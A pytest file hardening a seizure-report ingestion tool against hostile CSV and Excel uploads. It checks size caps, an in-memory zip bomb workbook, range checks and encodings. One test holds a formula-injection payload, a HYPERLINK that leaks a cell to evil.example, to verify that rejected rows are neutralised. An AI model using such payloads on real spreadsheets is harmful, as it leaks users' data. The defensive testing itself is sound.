"""Hostile or careless report files: refused by a stated limit, or rejected row by row, never a crash.

Issue 17, items 1, 2, 5, 7 and 11. Each test builds its file here, in memory or under tmp_path.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from kafo_data.cli import main
from kafo_data.ingest import read
from kafo_data.ingest import seizures as ingest
from kafo_data.ingest.commit import commit
from kafo_data.ingest.validate import validate
from kafo_data.store.db import batch_dirs
from tests.fixtures.ingest import reports

HEADER = reports.FR_HEADER


def line(ref: str = "X-1", item: str = "PA", quantity: str = "1", unit: str = "", date: str = "02/12/2020",
         place: str = "Dori", arrests: str = "0") -> list[str]:
    """One row under the French header (the same columns as tests/ingest/test_seizures.line)."""
    return [ref, "KAFO II", date, "Burkina Faso", "Sahel", place, "Police", "", item, quantity, unit, arrests, "",
            "", ""]


def csv_bytes(rows: list[list[str]], header: list[str] = HEADER) -> bytes:
    return reports.to_csv(header, rows, ";", totals=False, blank_between=False).encode("utf-8")


def workbook(rows: list[list[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def refusal(data_copy: Path, data: bytes, name: str = "r.csv") -> str:
    with pytest.raises(ingest.ReportError) as exc:
        ingest.plan(data_copy, name, data)
    return exc.value.text("en")


# ---------------------------------------------------------------- item 1: bounded reading


def test_a_file_over_the_byte_cap_is_refused_before_it_is_read(data_copy, tmp_path, capsys):
    path = tmp_path / "big.csv"
    with path.open("wb") as fh:  # sparse: the test does not write 10 MB
        fh.truncate(read.MAX_FILE_BYTES + 1)
    code, out, err = run(capsys, "ingest", str(path), "--dry-run", "--data-dir", str(data_copy))
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "at most 10 MB" in err and "split it" in err
    assert str(tmp_path) not in err, "no server path in the message"


def test_more_rows_than_the_cap_are_refused_with_the_limit(data_copy, monkeypatch):
    monkeypatch.setattr(read, "MAX_RECORDS", 5)
    rows = [line(ref=f"X-{n}") for n in range(6)]
    assert "more than 5 rows" in refusal(data_copy, csv_bytes(rows))
    assert ingest.plan(data_copy, "r.csv", csv_bytes(rows[:5])).read == 5, "the cap itself is allowed"


def test_blank_lines_past_the_line_cap_are_refused_too(data_copy, monkeypatch):
    monkeypatch.setattr(read, "MAX_LINES", 50)
    data = csv_bytes([line()]) + b";;;;\r\n" * 60
    assert "more than 50 lines" in refusal(data_copy, data)


def test_a_workbook_that_unpacks_past_the_cap_is_refused_before_openpyxl_reads_it(data_copy, monkeypatch):
    """A small zip whose sheet XML inflates hugely (here 80 MB of blanks in 80 KB) is refused at once."""
    base = workbook([line()])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</worksheet>", b" " * (80 * 2**20) + b"</worksheet>")
            dst.writestr(info.filename, data)
    bomb = out.getvalue()
    assert len(bomb) < 500_000
    calls = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: calls.append(a))
    assert "unpacks to 80" in refusal(data_copy, bomb, "r.xlsx") and calls == []


def test_workbooks_are_read_in_read_only_mode(data_copy, monkeypatch):
    from openpyxl.reader.excel import ExcelReader

    modes = []
    real = ExcelReader.__init__
    monkeypatch.setattr(ExcelReader, "__init__",
                        lambda self, *a, **k: modes.append(k.get("read_only")) or real(self, *a, **k))
    p = ingest.plan(data_copy, "r.xlsx", reports.french_xlsx())
    assert modes == [True] and len(p.accepted) == reports.GOOD_ROWS


def test_a_cell_over_excels_limit_is_refused_the_same_way_in_csv_and_xlsx(data_copy):
    huge = "x" * (read.MAX_CELL_CHARS + 1)
    for name, data in (("r.csv", csv_bytes([line(place=huge)])), ("r.xlsx", workbook([line(place=huge)])),
                       ("r.csv", csv_bytes([line(place="y" * 2**20)]))):
        text = refusal(data_copy, data, name)
        assert "line 2" in text and "at most 32,000" in text, (name, text)


def test_a_long_text_field_is_a_rejected_row_named_by_its_length(data_copy):
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(place="z" * 600), line(ref="X-2")]))
    assert [r.line for r in p.rejected] == [2] and len(p.accepted) == 1
    reason = p.rejected[0].reasons[0].text("en")
    assert "600 characters; at most 500" in reason and "zzzz" not in reason


def test_too_many_columns_are_refused(data_copy):
    wide = line() + [""] * (read.MAX_COLUMNS - len(HEADER)) + ["x"]
    assert "beyond column 100" in refusal(data_copy, csv_bytes([wide]))


def test_a_wrong_separator_is_tried_only_on_the_first_rows(data_copy, monkeypatch):
    """The separators are compared on the head of the file; only the chosen one reads it whole."""
    rows_read: dict[str, int] = {}
    real = read._csv_rows

    def counting(text, sep):
        for row in real(text, sep):
            rows_read[sep] = rows_read.get(sep, 0) + 1
            yield row

    monkeypatch.setattr(read, "_csv_rows", counting)
    rows = [line(ref=f"X-{n}", place="Dori, Sahel") for n in range(200)]
    p = ingest.plan(data_copy, "r.csv", csv_bytes(rows))
    assert p.read == 200 and p.separator == ";"
    assert rows_read[";"] == 201 and rows_read[","] <= read.HEADER_SCAN_ROWS


# ---------------------------------------------------------------- item 2: stored keys


def test_planning_reads_no_stored_batch_into_python_and_still_finds_stored_duplicates(data_copy, tmp_path,
                                                                                        monkeypatch):
    first = ingest.plan(data_copy, "a.csv", csv_bytes([line(), line(ref="X-2", item="cartouches", quantity="12")]))
    commit(data_copy, first)

    real = pq.read_table

    def no_whole_table(source, *args, **kwargs):
        if "batches" in Path(source).parts:
            raise AssertionError(f"a stored batch was read into Python: {source}")
        return real(source, *args, **kwargs)

    monkeypatch.setattr(pq, "read_table", no_whole_table)
    again = ingest.plan(data_copy, "b.csv", csv_bytes([line(), line(ref="X-3", item="cartouches", quantity="13")]))
    (batch,) = [b.name for b in batch_dirs(data_copy) if b.name != "sample"]
    assert [m.text("en") for m in again.already_loaded[0].reasons] == [
        f"duplicate: this row is already stored in batch {batch}"]
    assert [r.line for r in again.accepted] == [3]


# ---------------------------------------------------------------- item 5: rejected rows stay inert


def test_the_rejected_rows_file_never_brings_a_formula_back(data_copy):
    leak = '=HYPERLINK("http://evil.example/leak?d="&B2,"open")'
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(item=leak), line(ref="+X", item="@SUM(A1)"),
                                                   line(ref="X-3", item=" -1+1")]))
    rows = list(csv.reader(io.StringIO(p.rejected_csv().decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row[1:]]
    assert "'" + leak in cells and "'+X" in cells and "'@SUM(A1)" in cells and "' -1+1" in cells
    assert not [c for c in cells if c.lstrip(" ")[:1] in {"=", "+", "-", "@"}]
    commit(data_copy, p)
    stored = (data_copy / "rejected").glob("*.csv")
    assert all(b"'=HYPERLINK" in f.read_bytes() for f in stored)


# ---------------------------------------------------------------- item 7: numbers and dates in range


@pytest.mark.parametrize(("quantity", "unit", "words"), [
    ("1" * 400, "", "too large to be a quantity"),
    ("1e299", "kg", "scientific notation"),
    ("1e309", "", "scientific notation"),
    ("20000000", "kg", "more than 10,000,000 kg"),
    ("0", "", "more than 0"),
    ("0,0", "", "more than 0"),
])
def test_implausible_quantities_are_rejected_with_a_reason_about_the_number(data_copy, quantity, unit, words):
    item = "cannabis" if unit == "kg" else "cartouches"
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(item=item, quantity=quantity, unit=unit)]))
    assert not p.accepted
    reason = p.rejected[0].reasons[0].text("en")
    assert words in reason and "unit" not in reason.split(":")[0]


def test_the_largest_plausible_quantity_is_accepted(data_copy):
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(item="cannabis", quantity="10000000", unit="kg")]))
    assert p.accepted[0].item["quantity"] == 10_000_000


def test_arrests_beyond_the_bound_are_rejected_before_commit_and_nothing_is_left_behind(data_copy, tmp_path, capsys):
    path = tmp_path / "r.csv"
    path.write_bytes(csv_bytes([line(arrests="100000000000")]))
    code, out, err = run(capsys, "ingest", str(path), "--data-dir", str(data_copy))
    assert code == 1 and "Traceback" not in err and "0 read" not in out
    assert "more than 10,000 arrests" in out
    assert [b.name for b in batch_dirs(data_copy)] == ["sample"]
    assert validate(data_copy) == []


def test_a_table_the_contract_cannot_hold_writes_nothing(data_copy, monkeypatch):
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(), line(ref="X-2", item="objet inconnu")]))
    p.accepted[0].event["arrests"] = 10**11  # past every check: the arrow table refuses it
    with pytest.raises(ingest.ReportError) as exc:
        commit(data_copy, p)
    assert "nothing was written" in exc.value.text("en")
    assert [b.name for b in batch_dirs(data_copy)] == ["sample"]
    assert not (data_copy / "rejected").exists() or not list((data_copy / "rejected").iterdir())


@pytest.mark.parametrize(("date", "rejected"), [
    ("31/12/2019", True), ("01/01/2020", False), ("06/12/2021", False), ("07/12/2021", True), ("01/06/2015", True),
])
def test_dates_before_the_operations_year_or_long_after_it_are_rejected(data_copy, date, rejected):
    p = ingest.plan(data_copy, "r.csv", csv_bytes([line(date=date)]))
    assert bool(p.rejected) is rejected
    if rejected:
        assert "check the year" in p.rejected[0].reasons[0].text("en")
    else:
        assert "outside KAFO-II" in p.accepted[0].warnings[0].text("en")


# ---------------------------------------------------------------- item 11: encodings and paths


def test_a_stray_byte_in_a_windows_1252_file_does_not_change_its_accents(data_copy):
    data = reports.to_csv(HEADER, [line(place="Déou")], ";", totals=False, blank_between=False).encode("cp1252")
    data = data.replace("Déou".encode("cp1252"), "Déou\x81".encode("latin-1"))
    p = ingest.plan(data_copy, "r.csv", data)
    assert p.encoding == "cp1252" and p.header[1] == "Opération"
    assert p.accepted[0].event["locality"] == "Déou\ufffd"
    assert any("Windows-1252" in w.text("en") and "line 2" in w.text("en") for w in p.file_warnings)


def test_a_mac_file_full_of_undefined_bytes_still_goes_to_the_detector():
    text = "Désignation;Quantité;Localité;Réçu;Garçon;Façade\r\n" * 20
    found, encoding = read.decode(text.encode("mac_roman"))
    assert encoding != "cp1252" and found.count("\ufffd") == 0


def test_messages_name_files_relative_to_the_data_directory(data_copy, tmp_path, capsys):
    path = tmp_path / "r.csv"
    path.write_bytes(csv_bytes([line(), line(ref="X-2", item="objet inconnu")]))
    code, out, err = run(capsys, "ingest", str(path), "--data-dir", str(data_copy))
    assert code == 1 and "rejected/" in out and str(data_copy) not in out + err
    (data_copy / "mapping").mkdir(exist_ok=True)
    (data_copy / "mapping" / "headers.csv").write_text("nope\n", encoding="utf-8")
    code, out, err = run(capsys, "ingest", str(path), "--dry-run", "--data-dir", str(data_copy))
    assert code == 2 and "mapping/headers.csv" in err and str(data_copy) not in err
